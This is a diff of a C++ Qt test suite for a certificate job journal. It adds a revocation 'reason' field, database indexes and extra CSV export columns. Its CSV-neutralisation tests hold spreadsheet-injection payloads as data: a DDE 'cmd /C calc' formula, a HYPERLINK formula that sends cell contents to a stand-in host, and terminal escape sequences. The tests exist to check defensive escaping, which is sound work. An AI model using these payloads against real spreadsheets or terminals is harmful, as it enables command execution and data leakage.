@@ -53,6 +53,7 @@ private Q_SLOTS:
     void unknownNamesAreReported();
     void csvQuoting();
     void csvNeutralisesFormulas();
+    void csvShowsKindReasonAndRevoke();
     void historyCommand();
     void revocationIsJournaled();
     void revocationGoesAheadWithoutTheJournal();
@@ -186,7 +187,7 @@ void TestJobJournal::schemaAndWalOnAFile()
                                        QStringLiteral("profile"), QStringLiteral("slot"), QStringLiteral("device_id"),
                                        QStringLiteral("cert_id"), QStringLiteral("arn"), QStringLiteral("outcome"),
                                        QStringLiteral("error"), QStringLiteral("device_serial"), QStringLiteral("topics"),
-                                       QStringLiteral("run_id"), QStringLiteral("kind")}));
+                                       QStringLiteral("run_id"), QStringLiteral("kind"), QStringLiteral("reason")}));
         columns.clear();
         QVERIFY(query.exec(QStringLiteral("PRAGMA table_info(steps)")));
         while (query.next())
@@ -314,10 +315,12 @@ void TestJobJournal::updatesAVersion2Journal()
     JobJournal::Job revoke;
     revoke.kind = JobJournal::Kind::Revoke;
     revoke.certificateId = QStringLiteral("c2c2");
+    revoke.reason = QStringLiteral("returned by the customer");
     const qint64 id = journal.beginJob(revoke);
     QVERIFY(id > 0);
     QVERIFY(journal.finishJob(id, Outcome::Done, {}));
     QCOMPARE(journal.job(id)->kind, JobJournal::Kind::Revoke);
+    QCOMPARE(journal.job(id)->reason, QStringLiteral("returned by the customer"));
     QVERIFY(journal.job(done.id)->certificateRevokedAt.isValid());
     // Opened again, nothing is updated twice.
     JobJournal again(file);
@@ -331,6 +334,11 @@ void TestJobJournal::updatesAVersion2Journal()
         QVERIFY(query.exec(QStringLiteral("SELECT count(*), max(version) FROM schema_version")) && query.next());
         QCOMPARE(query.value(0).toInt(), 1);
         QCOMPARE(query.value(1).toInt(), JobJournal::schemaVersion);
+        // Version 4's indexes for the history page's searches.
+        QVERIFY(query.exec(QStringLiteral("SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name IN "
+                                          "('jobs_cert_id_nocase', 'jobs_operator', 'jobs_station', 'jobs_done_revokes')"))
+                && query.next());
+        QCOMPARE(query.value(0).toInt(), 4);
     }
     QSqlDatabase::removeDatabase(QStringLiteral("version-check"));
 }
@@ -668,7 +676,7 @@ void TestJobJournal::provisionedJobIsTheLiveOneOfADevice()
         while (plan.next())
             steps << plan.value(3).toString();
         QVERIFY2(steps.join(QLatin1Char('\n')).contains(QStringLiteral("INDEX jobs_device_id")), qPrintable(steps.join(QLatin1Char('\n'))));
-        QVERIFY2(steps.join(QLatin1Char('\n')).contains(QStringLiteral("INDEX jobs_cert_id")), qPrintable(steps.join(QLatin1Char('\n'))));
+        QVERIFY2(steps.join(QLatin1Char('\n')).contains(QStringLiteral("INDEX jobs_done_revokes")), qPrintable(steps.join(QLatin1Char('\n'))));
     }
     database.close();
     database = QSqlDatabase();
@@ -817,9 +825,9 @@ void TestJobJournal::csvQuoting()
     job.runId = QStringLiteral("not exported");
     const QString csv = JobJournal::toCsv({job});
     QCOMPARE(csv, QStringLiteral("id,started_at,finished_at,operator,station,port,profile,slot,device_id,cert_id,arn,"
-                                 "outcome,error,device_serial,topics\r\n"
+                                 "outcome,error,device_serial,topics,kind,reason,certificate_revoked_at\r\n"
                                  "7,2025-03-01T12:00:00.000Z,,\"o'brien, pat\",\"bench \"\"one\"\"\",,,3,plain,,,failed,"
-                                 "\"line one\nline two\",SN-1,\"a/b\nc,d\"\r\n"));
+                                 "\"line one\nline two\",SN-1,\"a/b\nc,d\",provision,,\r\n"));
     const QString file = m_dir->filePath(QStringLiteral("out.csv"));
     QVERIFY(m_journal->exportCsv({job}, file));
     QFile written(file);
@@ -842,7 +850,23 @@ void TestJobJournal::csvNeutralisesFormulas()
     const QString row = csv.section(QLatin1String("\r\n"), 1, 1);
     QCOMPARE(row, QStringLiteral(",,,'@SUM(1+1),'+bench,'-1+2,,0,"
                                  "\"'=HYPERLINK(\"\"http://example.invalid/\"\"&A1,\"\"open\"\")\",,,,"
-                                 "\\x1b]0;title\\x07,,'=cmd|' /C calc'!A0").prepend(QStringLiteral("8")));
+                                 "\\x1b]0;title\\x07,,'=cmd|' /C calc'!A0,provision,,").prepend(QStringLiteral("8")));
+}
+
+// A revoke's row says it is one, and why; a certificate revoked later says when. A reason is typed by
+// a person and stays text in a spreadsheet.
+void TestJobJournal::csvShowsKindReasonAndRevoke()
+{
+    JobJournal::Job revoke;
+    revoke.id = 9;
+    revoke.kind = JobJournal::Kind::Revoke;
+    revoke.reason = QStringLiteral("=1+1");
+    JobJournal::Job provisioned;
+    provisioned.id = 5;
+    provisioned.certificateRevokedAt = QDateTime(QDate(2026, 1, 2), QTime(3, 4, 5), QTimeZone::UTC);
+    const QStringList lines = JobJournal::toCsv({revoke, provisioned}).split(QLatin1String("\r\n"));
+    QVERIFY2(lines.at(1).endsWith(QLatin1String(",revoke,'=1+1,")), qPrintable(lines.at(1)));
+    QVERIFY2(lines.at(2).endsWith(QLatin1String(",provision,,2026-01-02T03:04:05.000Z")), qPrintable(lines.at(2)));
 }
 
 // history as a process, on the journal provision wrote as a process.
@@ -940,7 +964,7 @@ void TestJobJournal::revocationIsJournaled()
     QSignalSpy added(m_journal.get(), &JobJournal::jobAdded);
     CertificateRevocation revocation(&m_foundry.client(), m_journal.get(),
                                      {certificateId, QStringLiteral("dev-revoked"), QStringLiteral("alice"),
-                                      QStringLiteral("bench-1")});
+                                      QStringLiteral("bench-1"), QStringLiteral("support ticket 42")});
     QSignalSpy finished(&revocation, &CertificateRevocation::finished);
     revocation.start();
     QCOMPARE(added.size(), 1);
@@ -962,6 +986,7 @@ void TestJobJournal::revocationIsJournaled()
     QCOMPARE(row->outcome, Outcome::Done);
     QCOMPARE(row->certificateId, certificateId);
     QCOMPARE(row->deviceId, QStringLiteral("dev-revoked"));
+    QCOMPARE(row->reason, QStringLiteral("support ticket 42"));
     QCOMPARE(row->operatorName, QStringLiteral("alice"));
     QCOMPARE(row->station, QStringLiteral("bench-1"));
     QVERIFY(row->finishedAt.isValid());
@@ -970,7 +995,7 @@ void TestJobJournal::revocationIsJournaled()
     // Again: Foundry no longer knows it and refuses.
     CertificateRevocation again(&m_foundry.client(), m_journal.get(),
                                 {certificateId, QStringLiteral("dev-revoked"), QStringLiteral("alice"),
-                                 QStringLiteral("bench-1")});
+                                 QStringLiteral("bench-1"), QString()});
     QSignalSpy againFinished(&again, &CertificateRevocation::finished);
     again.start();
     QVERIFY(againFinished.wait(20000));
@@ -1005,7 +1030,7 @@ void TestJobJournal::revocationGoesAheadWithoutTheJournal()
 
     CertificateRevocation revocation(&m_foundry.client(), m_journal.get(),
                                      {certificateId, QStringLiteral("dev-unjournaled"), QStringLiteral("alice"),
-                                      QStringLiteral("bench-1")});
+                                      QStringLiteral("bench-1"), QString()});
     QSignalSpy finished(&revocation, &CertificateRevocation::finished);
     revocation.start();
     QVERIFY(finished.wait(20000));
@@ -1051,7 +1076,8 @@ void TestJobJournal::revokeShowsInHistory()
     QVERIFY(m_foundry.emulator().certificate(certificateId));
 
     const auto [revoked, revoke] = runCli({QStringLiteral("revoke"), QStringLiteral("--cert-id"), certificateId,
-                                           QStringLiteral("--device-id"), QStringLiteral("dev-history-revoke")});
+                                           QStringLiteral("--device-id"), QStringLiteral("dev-history-revoke"),
+                                           QStringLiteral("--reason"), QStringLiteral("returned\x1b[2J")});
     QCOMPARE(revoked, 0);
     QVERIFY(!m_foundry.emulator().certificate(certificateId));
     QVERIFY(revoke.value(QLatin1String("journalId")).toInteger() > 0);
@@ -1073,6 +1099,8 @@ void TestJobJournal::revokeShowsInHistory()
     QCOMPARE(done.value(QLatin1String("kind")).toString(), QStringLiteral("revoke"));
     QCOMPARE(done.value(QLatin1String("outcome")).toString(), QStringLiteral("done"));
     QCOMPARE(done.value(QLatin1String("deviceId")).toString(), QStringLiteral("dev-history-revoke"));
+    QCOMPARE(done.value(QLatin1String("reason")).toString(), QStringLiteral("returned\x1b[2J"));
+    QCOMPARE(failed.value(QLatin1String("reason")).toString(), QString());
     QVERIFY(!done.value(QLatin1String("operator")).toString().isEmpty());
     QVERIFY(!done.value(QLatin1String("station")).toString().isEmpty());
     QVERIFY(!done.value(QLatin1String("finishedAt")).toString().isEmpty());
